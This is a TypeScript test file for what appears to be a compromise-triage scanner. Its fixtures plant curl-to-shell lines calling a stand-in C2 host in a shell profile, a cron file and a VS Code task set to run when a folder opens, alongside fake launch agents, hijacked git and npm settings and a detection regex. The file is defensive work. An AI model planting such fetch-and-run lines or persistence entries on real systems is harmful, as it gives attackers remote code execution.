import { createHash } from 'node:crypto'
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterEach, beforeEach, expect, test } from 'vitest'
import type { CheckedLine } from '../core/check-line.ts'
import { evidence } from '../core/finding.ts'
import { judge } from '../core/verdict.ts'
import { treeHash } from './tree-hash.ts'
import { triage } from './triage.ts'

let root = ''
beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'postern-triage-'))
})
afterEach(() => rmSync(root, { recursive: true }))

const OLD = new Date('2020-01-01')

function put(path: string, content: string | Buffer): void {
  mkdirSync(dirname(join(root, path)), { recursive: true })
  writeFileSync(join(root, path), content)
  utimesSync(join(root, path), OLD, OLD)
}

/** Stands in for the interview door: what pipes a download into a shell is held back. */
async function judgeCommand(command: string): Promise<CheckedLine> {
  const finding = {
    detector: 'interview/test',
    family: 'command',
    strength: 'decisive' as const,
    weight: 12,
    title: 'It fetches and runs',
    why: 'It does.',
    where: { part: 'command', line: 1, column: 1, text: evidence(command) },
    innocent: '',
    advice: '',
    technique: 'T1059',
    source: 'https://example.org/',
  }
  const findings = /curl.*\|\s*sh/.test(command) ? [finding] : []
  return {
    path: command,
    door: 'interview',
    ms: 0,
    observables: [],
    ...judge({ findings, unknown: [], notFound: [] }),
  }
}

const run = () => triage({ root, now: Date.parse('2026-01-01'), judgeCommand })

test('a machine of an ordinary developer passes, and the report promises nothing', async () => {
  put('home/ana/.bashrc', 'export PATH="$HOME/.local/bin:$PATH"\neval "$(starship init bash)"\n')
  put('home/ana/.gitconfig', '[core]\n\teditor = vim\n[filter "lfs"]\n\tclean = git-lfs clean -- %f\n')
  put('home/ana/.config/autostart/a.desktop', '[Desktop Entry]\nExec=/usr/bin/nextcloud --background\n')
  put('etc/systemd/system/app.service', '[Service]\nExecStart=/usr/bin/node /srv/app/server.js\n')
  put('home/ana/.npmrc', '//registry.npmjs.org/:_authToken=x\n')
  const report = await run()
  expect(report).toMatchObject({ verdict: 'pass', findings: [], firstAid: [], evidence: [] })
  expect(report.notFound.length).toBeGreaterThan(5)
})

test('a line in a shell profile that fetches and runs is found in its file and line, and kept by hash', async () => {
  const text = '# mine\nnohup curl -s https://c2.lure.invalid/a | sh &\n'
  put('home/ana/.zshrc', text)
  const report = await run()
  expect(report.verdict).toBe('block')
  expect(report.findings[0]).toMatchObject({ where: { file: '/home/ana/.zshrc', line: 2 } })
  expect(report.evidence).toEqual([
    {
      path: '/home/ana/.zshrc',
      sha256: createHash('sha256').update(text).digest('hex'),
      size: text.length,
      modified: OLD.toISOString(),
    },
  ])
  expect(report.firstAid[0]).toContain('off the network')
})

test.each([
  ['an implant folder', 'home/ana/.n2/pay', 'x', 'block'],
  ['a false driver update', 'var/tmp/camDriver.sh', 'x', 'review'],
  [
    'a unit out of a temporary folder',
    'home/ana/.config/systemd/user/u.service',
    '[Service]\nExecStart=/tmp/.x/run\n',
    'review',
  ],
  [
    'a cron line',
    'var/spool/cron/crontabs/ana',
    '*/5 * * * * curl -s https://c2.lure.invalid | sh\n',
    'block',
  ],
  [
    "a launch agent by Apple's name",
    'Users/ana/Library/LaunchAgents/com.apple.updates.plist',
    '<?xml version="1.0"?><plist version="1.0"><dict><key>ProgramArguments</key><array><string>/Users/ana/.cache/u</string></array></dict></plist>',
    'block',
  ],
  ['hooks for every repository', 'home/ana/.gitconfig', '[core]\n\thooksPath = /var/tmp/h\n', 'review'],
  ['a shell for every script', 'home/ana/.npmrc', 'script-shell=/home/ana/.cache/sh\n', 'review'],
])('%s is found', async (_, path, content, verdict) => {
  put(path, content)
  expect(await run()).toMatchObject({ verdict })
})

test('a folder opened lately whose tasks start on opening is found through what the editor notes', async () => {
  put('home/ana/.config/Code/User/workspaceStorage/1/workspace.json', '{"folder":"file:///home/ana/job"}')
  put(
    'home/ana/job/.vscode/tasks.json',
    '{"tasks":[{"command":"curl -s https://c2.lure.invalid | sh","runOptions":{"runOn":"folderOpen"}}]}',
  )
  expect(await run()).toMatchObject({
    verdict: 'block',
    findings: [{ where: { file: '/home/ana/job/.vscode/tasks.json' } }],
  })
})

test("an extension's file that is not the store's is found; an untouched one is not", async () => {
  const folder = 'home/ana/.config/google-chrome/Default/Extensions/abc/1.0_0'
  const store = Buffer.from('console.log(1)\n'.repeat(1000))
  const payload = {
    content_hashes: [
      { format: 'treehash', block_size: 4096, files: [{ path: 'main.js', root_hash: treeHash(store) }] },
    ],
  }
  const encoded = Buffer.from(JSON.stringify(payload)).toString('base64url')
  put(
    `${folder}/_metadata/verified_contents.json`,
    JSON.stringify([{ signed_content: { payload: encoded } }]),
  )
  put(`${folder}/main.js`, store)
  expect(await run()).toMatchObject({ verdict: 'pass' })
  put(`${folder}/main.js`, Buffer.concat([store, Buffer.from('fetch()')]))
  const report = await run()
  expect(report).toMatchObject({ verdict: 'block', findings: [{ where: { file: `/${folder}/main.js` } }] })
  expect(report.firstAid.join(' ')).toContain('new seed')
})

test('links on a mounted disk do not lead into this machine', async () => {
  put('home/ana/x', '')
  symlinkSync(tmpdir(), join(root, 'home/ana/.n2'))
  symlinkSync('/etc/passwd', join(root, 'home/ana/.bashrc'))
  const report = await run()
  expect(report.findings).toHaveLength(1)
  expect(report.evidence).toEqual([])
})
